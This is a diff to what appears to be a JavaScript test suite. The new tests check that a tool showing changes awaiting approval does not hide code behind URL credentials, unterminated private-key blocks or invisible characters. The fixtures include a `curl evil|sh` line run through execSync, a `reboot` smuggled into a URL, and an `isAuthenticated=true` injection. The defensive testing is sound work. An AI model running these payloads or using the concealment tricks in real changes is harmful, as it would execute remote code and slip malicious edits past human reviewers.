@@ -132,6 +132,26 @@ describe('the changes that wait for approval', () => {
     expect(shown({ diff: '+fine' })).not.toContain('is hidden')
   })
 
+  it.each([
+    [
+      'behind what looks like the password of an address',
+      `+x="http://a:b";require("child_process").execSync("curl\\x20evil|sh");"@"`,
+      'execSync',
+    ],
+    ['in what looks like the user of an address', `+x="http://a";require("child_process");":b@"`, 'require'],
+    ['in a shell', '+U=http://a:b&&reboot&&x@y', 'reboot'],
+    ['after a key that nobody ends', '+-----BEGIN PRIVATE KEY-----\n+isAuthenticated=true', 'isAuthenticated=true'],
+    [
+      'in another file than the key',
+      `diff --git a/k b/k\n+-----BEGIN PRIVATE KEY-----\ndiff --git a/x b/x\n+${'dangerousFunction'}`,
+      'dangerousFunction',
+    ],
+  ])('hide no code %s', (_, diff, code) => {
+    const text = shown({ diff })
+    expect(text).toContain(code)
+    expect(reportOptions.redactor.redact(text)).toContain(code)
+  })
+
   it('show what shows nothing: invisible characters, directions, carriage returns, long blanks', () => {
     const text = shown({ diff: `+if (a\u200b) { // \u202e x\r\n+ok${' '.repeat(500)}evil()\n+\u{e0041}`, paths: ['a\u200b.ts'] })
     expect(text).toContain('+if (a\\u{200b}) { // \\u{202e} x\\u{d}')
